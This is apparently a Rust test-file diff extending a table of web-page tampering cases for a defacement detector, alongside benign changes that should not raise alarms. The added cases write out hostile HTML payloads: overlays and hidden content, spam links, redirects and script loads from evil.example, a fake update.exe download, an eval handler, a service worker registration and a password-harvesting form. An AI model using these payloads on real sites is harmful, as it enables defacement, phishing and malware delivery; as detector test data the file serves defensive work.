@@ -200,6 +200,221 @@ fn attacks() -> Vec<(&'static str, Box<dyn Fn(String) -> String>, &'static str)>
             "collapse.page",
         ),
         (
+            "a dialogue over everything",
+            Box::new(in_body(
+                "<dialog open style=\"width:100%;height:100%\"><h2>Remember this day, all of you</h2></dialog>",
+            )),
+            "cover.element",
+        ),
+        (
+            "a box as high as the view",
+            Box::new(in_body("<div style=\"height:100vh;background:#a00\">Remember this day</div>")),
+            "cover.pushed",
+        ),
+        (
+            "words that a rule makes up",
+            Box::new(at_end("<style>body::before{content:\"Remember this day\";display:block}</style>")),
+            "cover.made-up",
+        ),
+        (
+            "one picture in the place of all by a rule",
+            Box::new(at_end("<style>img{content:url(/img/flag.png)!important}</style>")),
+            "cover.made-up",
+        ),
+        (
+            "all but one thing hidden",
+            Box::new(at_end("<style>body > *:not(#z){visibility:hidden}</style><b id=z>x</b>")),
+            "cover.hidden",
+        ),
+        (
+            "the part with the stories hidden",
+            Box::new(at_end("<style>.stories{clip-path:circle(0)}</style>")),
+            "cover.hidden",
+        ),
+        (
+            "a sheet of glass that leads elsewhere",
+            Box::new(at_end("<a href=\"https://evil.example/\" style=\"position:fixed;inset:0\"></a>")),
+            "cover.element",
+        ),
+        (
+            "a frame of the page's own over everything",
+            Box::new(in_body("<iframe src=\"/uploads/a.html\" style=\"position:fixed;inset:0\"></iframe>")),
+            "cover.frame",
+        ),
+        ("words above the page", Box::new(in_body("<p>The truth will come to light soon</p>")), "text.placed"),
+        (
+            "hidden words for robots",
+            Box::new(|page: String| {
+                let words = "cheap watches and pills ".repeat(30);
+                page.replace("</footer>", &format!("<div style=\"height:0;overflow:hidden\">{words}</div></footer>"))
+            }),
+            "text.buried",
+        ),
+        (
+            "hidden links of its own",
+            Box::new(|page: String| {
+                let links: String = (0..12).map(|n| format!("<a href=/x/?casino={n}>casino {n}</a> ")).collect();
+                page.replace("</footer>", &format!("<div style=display:none>{links}</div></footer>"))
+            }),
+            "link.buried",
+        ),
+        (
+            "a title that names nobody",
+            plain(|page| page.replace("<title>Outlet Daily - news of the day", "<title>Remember this")),
+            "title.replaced",
+        ),
+        (
+            "another title where it is shared",
+            plain(|page| page.replace("</head>", "<meta property=\"og:title\" content=\"Remember this\"></head>")),
+            "title.card",
+        ),
+        (
+            "one text for all pictures",
+            plain(|page| page.replace("alt=\"\"", "alt=\"Remember this day\"")),
+            "image.words",
+        ),
+        (
+            "one picture offered instead of all",
+            plain(|page| page.replace("<img class=\"thumb\"", "<img class=\"thumb\" srcset=\"/img/flag.png 2x\"")),
+            "image.everywhere",
+        ),
+        (
+            "all pictures from one stranger",
+            plain(|page| page.replace("src=\"/img/", "src=\"https://evil.example/img/")),
+            "image.exchanged",
+        ),
+        (
+            "the sections' words lead elsewhere",
+            plain(|page| {
+                ["politics", "economy", "world", "culture"].iter().fold(page, |page, section| {
+                    page.replace(&format!("href=\"/{section}\""), &format!("href=\"https://evil.example/{section}\""))
+                })
+            }),
+            "link.redirected",
+        ),
+        (
+            "a program to download",
+            Box::new(in_body(
+                "<div class=bar>Out of date? <a href=\"https://evil.example/update.exe\">Update</a></div>",
+            )),
+            "link.program",
+        ),
+        (
+            "links where no scripts run",
+            Box::new(at_end(
+                "<noscript><a href=https://pills.example>a</a><a href=https://bets.example>b</a></noscript>",
+            )),
+            "link.hidden",
+        ),
+        (
+            "a refresh where no scripts run",
+            plain(|page| {
+                page.replace(
+                    "<head>",
+                    "<head><noscript><meta http-equiv=refresh content=\"0;url=//evil.example\"></noscript>",
+                )
+            }),
+            "source.refresh",
+        ),
+        (
+            "a refresh to another page of its own",
+            plain(|page| page.replace("<head>", "<head><meta http-equiv=refresh content=\"0;url=/uploads/a.html\">")),
+            "source.refresh",
+        ),
+        (
+            "a foreign style sheet in the page",
+            Box::new(at_end("<link rel=stylesheet href=//evil.example/t.css>")),
+            "source.style",
+        ),
+        (
+            "a style sheet that takes one in",
+            Box::new(at_end("<style>@import url('//evil.example/t.css');</style>")),
+            "source.style",
+        ),
+        (
+            "a style sheet carried along",
+            Box::new(at_end("<link rel=stylesheet href=\"data:text/css,body{display:none}\">")),
+            "cover.hidden",
+        ),
+        ("a foreign icon", Box::new(at_end("<link rel=icon href=//evil.example/i.png>")), "source.icon"),
+        (
+            "a foreign page for small screens",
+            plain(|page| page.replace("</head>", "<link rel=amphtml href=https://evil.example/a></head>")),
+            "source.elsewhere",
+        ),
+        (
+            "a script loaded from code",
+            Box::new(at_end("<script>import('https://evil.example/m.js')</script>")),
+            "script.new",
+        ),
+        (
+            "a script carried along",
+            Box::new(at_end(
+                "<script src=\"data:text/javascript;base64,ZG9jdW1lbnQuYm9keS5pbm5lckhUTUw9JzxoMT54PC9oMT4n\"></script>",
+            )),
+            "script.replaces",
+        ),
+        (
+            "a known script with a stranger in it",
+            plain(|page| {
+                page.replace(
+                    "ga('create'",
+                    "var s=document.createElement('script');s.src='//evil.example/g.js';ga('create'",
+                )
+            }),
+            "script.new",
+        ),
+        (
+            "a handler that runs by itself",
+            Box::new(at_end("<details open ontoggle=\"eval(top.name)\"></details>")),
+            "script.new",
+        ),
+        (
+            "a script that hides the page",
+            Box::new(at_end("<script>document.body.style.display='none'</script>")),
+            "script.rewrites",
+        ),
+        (
+            "a script that rewrites the headlines",
+            Box::new(at_end(
+                "<script>document.querySelectorAll('h2').forEach(function(e){e.textContent='Remember'})</script>",
+            )),
+            "script.rewrites",
+        ),
+        (
+            "a script that stays",
+            Box::new(at_end("<script>navigator.serviceWorker.register('/uploads/w.js')</script>")),
+            "script.stays",
+        ),
+        (
+            "a password asked for",
+            Box::new(at_end("<form action=/x.php><input name=u><input type=password name=p></form>")),
+            "login.added",
+        ),
+        (
+            "the headlines emptied",
+            plain(|page| {
+                let mut parts = page.split("<h2>").map(str::to_owned).collect::<Vec<_>>();
+                for part in parts.iter_mut().skip(1) {
+                    let end = part.find("</h2>").unwrap();
+                    part.replace_range(..end, "");
+                }
+                parts.join("<h2>")
+            }),
+            "lost.headings",
+        ),
+        (
+            "not to be found any more",
+            plain(|page| page.replace("<head>", "<head><meta name=robots content=noindex>")),
+            "robots.noindex",
+        ),
+        (
+            "written the other way",
+            plain(|page| page.replace("<html lang=\"en\">", "<html lang=\"en\" dir=\"rtl\">")),
+            "language.turned",
+        ),
+        ("sound by itself", Box::new(at_end("<audio src=/uploads/a.mp3 autoplay loop></audio>")), "sound.plays"),
+        (
             "another page altogether",
             plain(|_| {
                 "<html><head><title>x</title></head><body bgcolor=black><center><img src=a.jpg><br>see you</center></body></html>".to_owned()
@@ -273,6 +488,28 @@ fn the_news_does_not_alarm() {
         ("twenty new stories at once", Box::new(|_| front(29))),
         ("a refresh of itself", Box::new(|page| page.replace("<head>", "<head><meta http-equiv=refresh content=300>"))),
         ("a tracking pixel", Box::new(at_end("<img src=\"https://pixel.example/p.gif\" width=1 height=1>"))),
+        (
+            "a note with a link above the page",
+            Box::new(in_body("<div class=note>Our offices are closed today. <a href=\"/closed\">More</a></div>")),
+        ),
+        (
+            "a rule for paper",
+            Box::new(at_end("<style>@media print{body > *{display:none}.stories{display:none}}</style>")),
+        ),
+        (
+            "a rule that hides a small part",
+            Box::new(at_end("<style>.clock{display:none}.modal{position:fixed;display:none}</style>")),
+        ),
+        ("an icon made up by a rule", Box::new(at_end("<style>.menu::before{content:\"\\e900\"}</style>"))),
+        ("a muted video", Box::new(at_end("<video src=/v/1.mp4 autoplay muted></video>"))),
+        (
+            "another title of its own",
+            Box::new(|page| page.replace("<title>Outlet Daily - news of the day", "<title>OUTLET: election night")),
+        ),
+        (
+            "a new partner behind one link",
+            Box::new(|page| page.replace("href=\"/imprint\"", "href=\"https://partner.example/imprint\"")),
+        ),
         ("another style sheet version", Box::new(|page| page.replace("/css/site.css?v=9", "/css/site.css?v=abcdef"))),
     ];
     for (what, change) in table {
